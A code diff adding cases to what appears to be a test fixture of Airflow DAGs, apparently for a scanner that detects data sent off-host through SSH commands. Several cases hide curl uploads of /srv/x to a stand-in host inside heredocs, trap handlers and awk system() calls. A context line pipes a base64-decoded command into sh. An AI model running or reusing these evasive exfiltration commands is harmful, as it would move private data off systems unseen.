@@ -41,6 +41,25 @@ with dag("ssh_heredoc"):
         task_id="t", ssh_conn_id="sftp_own", command="curl --data-binary @- https://drop.partner.example/ <<EOF\nx\nEOF"
     )
 
+with dag("ssh_heredoc_script"):
+    SSHOperator(
+        task_id="t",
+        ssh_conn_id="sftp_own",
+        command="bash -s <<'EOF'\ncurl -T /srv/x https://drop.partner.example/\nEOF",
+    )
+
+with dag("ssh_trap"):
+    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="trap 'curl -T /srv/x https://drop.partner.example/' EXIT")
+
+with dag("ssh_awk"):
+    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="awk '{ system(\"curl https://\" $1) }' /srv/x")
+
+with dag("ssh_awk_harmless"):
+    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="awk -F';' '{ print $1 }' /srv/x | sed 's/a/b/' > /srv/y")
+
+with dag("ssh_host_behind_an_option"):
+    SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="/opt/send --host pg.partner.example --table p")
+
 with dag("ssh_base64"):
     SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="echo Y3VybCBodHRwczovL3g= | base64 -d | sh")
 
